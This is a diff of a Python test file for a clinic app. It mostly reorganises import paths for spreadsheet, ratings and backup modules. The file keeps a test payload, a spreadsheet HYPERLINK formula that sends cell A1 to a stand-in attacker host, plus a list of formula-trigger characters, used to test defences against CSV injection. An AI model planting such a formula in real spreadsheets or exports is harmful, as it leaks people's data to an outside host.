@@ -19,12 +19,13 @@ from tests.clinic.people import a_held_session, answers
 from tests.clinic.rights_steps import code_for, inside
 
 from accord.errors import BadTable
-from accord_clinic import backups, imports, spreadsheet
 from accord_clinic.actions import alliance, corrections
-from accord_clinic.column_map import BadMapping, read_map
+from accord_clinic.imports import ratings, spreadsheet
+from accord_clinic.imports.column_map import BadMapping, read_map
 from accord_clinic.instruments import shelf
 from accord_clinic.models import Client
 from accord_clinic.queries.copies import as_csv
+from accord_clinic.upkeep import backups
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Invoice")'
 SIGNS = tuple("=+-@＝＋－＠")
@@ -136,7 +137,7 @@ class TestIn:
     def test_a_name_that_is_a_path_is_only_a_name(self, name, tmp_path, columns, people):
         before = sorted(tmp_path.rglob("*"))
         sheet = spreadsheet.read_sheet(_ratings(tmp_path, f"{name},1,2024-01-08,3,3"), columns)
-        imports.take(imports.fit(sheet, columns)[0], columns, by=None)
+        ratings.take(ratings.fit(sheet, columns)[0], columns, by=None)
         assert Client.objects.filter(name__endswith=name).exists()
         assert {p.name for p in tmp_path.rglob("*")} - {p.name for p in before} <= {"ratings.csv"}
 
